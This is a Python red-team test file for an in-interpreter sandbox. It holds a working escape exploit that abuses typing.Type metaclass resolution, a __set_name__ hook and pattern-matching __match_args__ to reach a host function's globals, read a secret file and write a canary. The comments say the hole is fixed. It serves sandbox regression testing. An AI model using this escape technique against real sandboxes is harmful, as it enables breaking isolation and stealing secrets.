# mypy: ignore-errors
# Technique: `class Meta(typing.Type[int])` derives from the real `type` (typing's
# `__mro_entries__`), and the runtime refused such a class only once `type.__new__` had made
# it; but `type.__new__` runs the class's `__set_name__` hooks (and a base's
# `__init_subclass__`) with the new class first. A hook kept Meta: calling it built a
# metaclass from any namespace (an `__instancecheck__` admitting everything), and that one a
# class with `__match_args__ = ("__globals__",)`, so a class pattern read a host function's
# globals (the real builtins). Found in the tenth red-team pass of the in-interpreter layer;
# was a real in-interpreter escape (3.11-3.13) before the fix (the bases are resolved and
# checked before the class is made).
import typing

from suaveplan import fs

U = "_" * 2
made = []


class Keep:
    def __set_name__(self, owner, name):
        made.append(owner)


def attack(secret_path, canary_path):
    try:

        class Meta(typing.Type[int]):  # noqa: UP006 - the alias is the technique
            keep = Keep()

    except Exception as exc:
        refused = repr(exc)[:120]
    else:
        refused = "made"
    if not made:
        return refused
    meta = made[0]
    anything = meta("Anything", (meta,), {U + "instancecheck" + U: lambda cls, obj: True})
    any_ = anything("Any", (), {U + "match_args" + U: (U + "globals" + U,)})
    match fs.read_text:
        case any_(g):
            b = g["_b"]
            print("SANDBOX-" + "ESCAPED")
            out = [b.open(secret_path).read()]
            b.open(canary_path, "w").write("x")
            return out
    return "no match"
